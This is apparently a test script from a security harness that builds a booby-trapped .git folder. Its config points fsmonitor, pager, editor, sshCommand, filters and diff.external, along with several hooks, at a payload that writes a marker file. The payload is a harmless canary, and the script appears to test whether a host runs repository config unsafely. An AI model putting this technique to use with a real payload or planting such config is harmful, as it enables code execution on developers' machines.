// attack: git configuration and hooks that run when the host looks
'use strict';
const fs = require('fs');
const { tried } = require('./kit.cjs');

const payload = `#!/bin/sh\necho owned > ${process.env.TARGET_MARK}\n`;
tried('fsmonitor, pagers, editors, filters and ssh commands in .git/config');
fs.mkdirSync('.git/hooks', { recursive: true });
fs.writeFileSync('payload.sh', payload, { mode: 0o755 });
const run = '/bin/sh payload.sh';
fs.writeFileSync('.git/HEAD', 'ref: refs/heads/main\n');
fs.mkdirSync('.git/objects');
fs.mkdirSync('.git/refs');
fs.writeFileSync('.git/config', `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${run}\n\tpager = ${run}\n\teditor = ${run}\n\tsshCommand = ${run}\n\thooksPath = .git/hooks\n[filter "x"]\n\tclean = ${run}\n\tsmudge = ${run}\n[diff]\n\texternal = ${run}\n`);
fs.writeFileSync('.gitattributes', '* filter=x diff=x\n');
tried('hooks');
for (const hook of ['pre-commit', 'post-checkout', 'post-index-change', 'fsmonitor-watchman', 'reference-transaction']) fs.writeFileSync(`.git/hooks/${hook}`, payload, { mode: 0o755 });
